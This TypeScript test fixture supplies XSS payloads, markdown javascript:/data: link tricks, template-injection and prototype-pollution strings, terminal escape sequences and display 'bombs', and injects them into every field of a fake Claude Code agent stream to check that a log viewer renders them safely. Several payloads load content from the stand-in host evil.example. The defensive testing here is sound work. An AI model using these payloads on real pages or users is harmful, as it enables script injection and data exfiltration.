/** Attacks on the reader of a run. Each tries to set `pwned` or to contact another host. */
const DO = "window.pwned=1";

export const payloads: readonly string[] = [
  `<script>${DO}</script>`,
  `<img src=x onerror="${DO}">`,
  `<svg onload="${DO}"><script>${DO}</script></svg>`,
  `<svg><animate onbegin="${DO}" attributeName=x></svg>`,
  `<iframe srcdoc="<script>parent.${DO}</script>"></iframe>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${DO}&gt;">`,
  `"><script>${DO}</script><a href="`,
  `</script><script>${DO}</script>`,
  `</pre></code></div><script>${DO}</script>`,
  `<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/x)}</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<form action="javascript:${DO}"><button>click</button></form>`,
  `[click](javascript:${DO})`,
  `[click](JaVaScRiPt:${DO})`,
  `[click](java\nscript:${DO})`,
  `[click](&#106;avascript:${DO})`,
  `[click](data:text/html,<script>${DO}</script>)`,
  `[click](vbscript:${DO})`,
  `[click](http://evil.example/ "onmouseover=${DO}")`,
  `<javascript:${DO}>`,
  `[a]: javascript:${DO}\n\n[a]`,
  "![](http://evil.example/pixel.png)",
  `![x](javascript:${DO})`,
  `![x](data:image/svg+xml,<svg onload=${DO}>)`,
  `{{constructor.constructor('${DO}')()}}`,
  `\${${DO}}`,
  `'-${DO}-'`,
  `"onfocus=${DO} autofocus="`,
  `\u202Egnp.exe\u2066 \u200b\ufeff`,
  "\u001b]52;c;aGk=\u0007\u001b[2J\u009b31m",
  "__proto__",
  "constructor",
  `#/runs/<script>${DO}</script>`,
  `| a |\n|---|\n| <script>${DO}</script> |`,
  `\`\`\`"onclick=${DO}\n<script>${DO}</script>\n\`\`\``,
];

/** Texts that are hard to display. */
export const bombs: readonly string[] = [
  ">".repeat(20_000),
  `${"- ".repeat(5_000)}x`,
  "[".repeat(20_000),
  "*".repeat(20_000),
  "`".repeat(20_000),
  `${"|a".repeat(5_000)}|\n${"|-".repeat(5_000)}|\n`,
  "x".repeat(2_000_000),
  "a\n".repeat(300_000),
  "\ud800\udfff\ud800",
];

/** The attacks in every field of a Claude Code stream that the page shows. */
export function hostileStream(): string {
  const lines: object[] = [{ type: "system", subtype: "init", session_id: payloads[0], model: payloads[1], cwd: payloads[2], tools: [] }];
  [...payloads, ...bombs].forEach((text, i) => {
    const id = `call_${i}_${text.slice(0, 40)}`;
    const path = text.slice(0, 3000);
    lines.push(assistant(i, { type: "text", text }), assistant(i, { type: "thinking", thinking: text }));
    lines.push(
      assistant(i, {
        type: "tool_use",
        id,
        name: "Edit",
        input: { file_path: path, old_string: text.slice(0, 5000), new_string: `${path}!` },
      }),
    );
    lines.push(result(id, text, i % 2 === 0));
    lines.push(
      assistant(i, { type: "tool_use", id: `b${id}`, name: "Bash", input: { command: path, description: path } }),
      result(`b${id}`, text, false),
    );
    lines.push(assistant(i, { type: "tool_use", id: `c${id}`, name: path, input: { [path]: text.slice(0, 5000) } }));
    lines.push(
      assistant(i, { type: "tool_use", id: `s${id}`, name: "Task", input: { subagent_type: path, description: path, prompt: path } }),
    );
    lines.push({ ...assistant(i, { type: "text", text: path }), parent_tool_use_id: `s${id}` });
    lines.push(
      assistant(i, {
        type: "tool_use",
        id: `p${id}`,
        name: "TodoWrite",
        input: { todos: [{ content: path, status: "pending", activeForm: path }] },
      }),
    );
    lines.push({ type: path, [path]: text.slice(0, 5000) });
  });
  lines.push({
    type: "result",
    subtype: "success",
    is_error: false,
    result: payloads.join("\n"),
    session_id: payloads[0],
    total_cost_usd: 1e308,
  });
  return `${lines.map((line) => JSON.stringify(line)).join("\n")}\n<script>${DO}</script>\n${payloads.join("\n")}\n`;
}

function assistant(i: number, block: object): object {
  return { type: "assistant", message: { id: `msg_${i}`, role: "assistant", content: [block] }, session_id: "s" };
}

function result(id: string, content: string, isError: boolean): object {
  return {
    type: "user",
    message: { role: "user", content: [{ type: "tool_result", tool_use_id: id, content, is_error: isError }] },
    session_id: "s",
  };
}
